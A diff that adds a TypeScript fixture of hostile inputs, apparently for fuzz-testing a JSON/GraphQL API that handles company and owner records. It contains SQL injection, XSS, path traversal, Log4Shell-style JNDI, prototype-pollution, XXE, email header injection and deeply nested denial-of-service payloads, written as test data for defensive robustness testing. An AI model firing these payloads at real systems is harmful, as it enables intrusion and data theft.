@@ -1,0 +1,193 @@
+/** JSON that is written as it stands: what JSON.stringify cannot say. */
+export class Raw {
+  constructor(readonly text: string) {}
+}
+
+const nested = (open: string, close: string, levels: number) =>
+  new Raw(`${open.repeat(levels)}1${close.repeat(levels)}`);
+const own = (text: string) => new Raw(text);
+
+const NUMBERS = [
+  0,
+  -1,
+  1.5,
+  51,
+  101,
+  2 ** 31 - 1,
+  2 ** 31,
+  -(2 ** 31) - 1,
+  2 ** 53,
+  -(2 ** 63),
+  1e21,
+  1.7e308,
+  1e-320,
+  0.1234567,
+];
+
+const DATES = [
+  '0000-00-00T00:00:00Z',
+  '0000-01-01T00:00:00Z',
+  '0001-01-01T00:00:00Z',
+  '9999-12-31T23:59:59.999Z',
+  '9999-12-31T23:59:59-23:59',
+  '2026-02-30T00:00:00Z',
+  '2026-01-01T24:00:00Z',
+  '2026-12-31T23:59:60Z',
+  '2026-01-01',
+  '+275760-09-13T00:00:00.001Z',
+];
+
+const TEXTS = [
+  '',
+  ' ',
+  '\t\r\n',
+  '\u0000',
+  'a\u0000b',
+  '\ud800',
+  'x\udc00y',
+  '\ufeff\ufffe\uffff',
+  '\u202Eevil\u202C',
+  '👩‍👩‍👧‍👦',
+  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L',
+  'ﷺ',
+  '١٢٣',
+  '%',
+  '_',
+  '\\',
+  "' OR '1'='1' -- ",
+  '"; DROP TABLE end_users; --',
+  '%00',
+  '%ff%fe',
+  '../../../../etc/passwd',
+  '<script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's
+  '${jndi:ldap://x}{{7*7}}',
+  '__proto__',
+  'constructor',
+  'toString',
+  'NaN',
+  'Infinity',
+  '-0',
+  '1e999',
+  '0x10',
+  'null',
+  'undefined',
+  'true',
+  'a@b',
+  'a@b.c\r\nBcc: x@y.z',
+  'http://',
+  'http://[::1]:1/',
+  'javascript:alert(1)',
+  'file:///etc/passwd',
+  `${'a'.repeat(64)}.`.repeat(5),
+  'x'.repeat(129),
+  'é'.repeat(256),
+  '👍'.repeat(501),
+  'x'.repeat(70_000),
+  'x'.repeat(500_000),
+  ...DATES,
+];
+
+const SHAPES = [
+  null,
+  true,
+  false,
+  [],
+  {},
+  [null],
+  [[]],
+  [[[[]]]],
+  ['x', 1, null, {}],
+  { a: null },
+  { '': '' },
+  { 'a.b': 1, 'a[0]': 2, $gt: '' },
+  Array.from({ length: 300 }, (_, index) => `x${index}`),
+  Array.from({ length: 5000 }, () => 0),
+  Object.fromEntries(Array.from({ length: 2000 }, (_, index) => [`k${index}`, index])),
+  { ['k'.repeat(100_000)]: 1 },
+  own('{"__proto__":{"isAdmin":true}}'),
+  own('{"constructor":{"prototype":{"isAdmin":true}}}'),
+  own('{"toString":1,"hasOwnProperty":null,"then":"x","length":-1}'),
+  own('{"company":{"__proto__":null,"ein":"\\ud800"}}'),
+  own('{"company":{"ein":{"a":1},"ssn":[1]},"owners":{"0":1}}'),
+  own('{"owners":[{"ssn":"***-**-1234"},null,[],{"credit_score":"x"}]}'),
+  own('1e400'),
+  own('-1e400'),
+  own('123456789012345678901234567890'),
+  own('0.1234567890123456789'),
+  own('"\\u0000\\ud83d"'),
+  nested('[', ']', 40),
+  nested('{"a":', '}', 40),
+  nested('[', ']', 3000),
+  nested('{"a":', '}', 3000),
+  nested('{"company":', '}', 12),
+];
+
+export const HOSTILE: readonly unknown[] = [...SHAPES, ...NUMBERS, ...TEXTS];
+
+/** Bodies that are no request to begin with. */
+export const HOSTILE_BODIES: readonly (string | Buffer)[] = [
+  '',
+  ' ',
+  'null',
+  'true',
+  '1',
+  '"text"',
+  '[]',
+  '[{}]',
+  '{',
+  '{]',
+  '{}{}',
+  '{"a":1,}',
+  '{"a":NaN}',
+  "{'a':1}",
+  '\ufeff{}',
+  '{"\\u0000":1}',
+  '{"a":1,"a":2}',
+  '{"__proto__":{"x":1}}',
+  '{"constructor":1}',
+  '{"body":{}}',
+  '{"query":5}',
+  '{"query":"{ viewer { name } }","variables":[]}',
+  '{"query":"{ viewer { name } }","variables":"x"}',
+  '{"query":"{ viewer { name } }","operationName":{}}',
+  '{"query":"{ viewer { name } }","operationName":"__proto__"}',
+  '{"query":"{ viewer { name } }","extensions":5}',
+  '{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"x"}}}',
+  '{"query":"query ($a: String = \\"\\ud800\\") { viewer { name } }"}',
+  '{"query":"{ viewer { constructor } __proto__ }"}',
+  '{"query":"{ __schema { types { fields { type { fields { type { name } } } } } } }"}',
+  `{"query":"{ viewer ${'{ a '.repeat(2000)}"}`,
+  '['.repeat(100_000),
+  '{"a":'.repeat(50_000),
+  `{"a":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
+  `{"name":"${'x'.repeat(1_100_000)}"}`,
+  Buffer.from([0xff, 0xfe, 0x00]),
+  Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d]),
+  Buffer.from('{"name":"utf16"}', 'utf16le'),
+  '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF',
+  '--x\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\n1\r\n--x--',
+  '--x\r\nContent-Disposition: form-data; name="file"; filename="../../\0.pdf"\r\n\r\n%PDF-1.7\r\n--x--',
+  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+];
+
+export const HOSTILE_TYPES: readonly (string | undefined)[] = [
+  'application/json',
+  'application/json',
+  'application/json; charset=utf-16',
+  'text/plain',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data; boundary=x',
+  'multipart/form-data',
+  'application/xml',
+  'application/vnd.api+json',
+  'nonsense',
+  undefined,
+];
+
+/** JSON text of a value that may hold Raw parts. */
+export function jsonOf(value: unknown): string {
+  const parts: string[] = [];
+  const text = JSON.stringify(value, (_key, each) => (each instanceof Raw ? `@@${parts.push(each.text) - 1}@@` : each));
+  return text.replace(/"@@(\d+)@@"/g, (_match, index) => parts[Number(index)]!);
+}
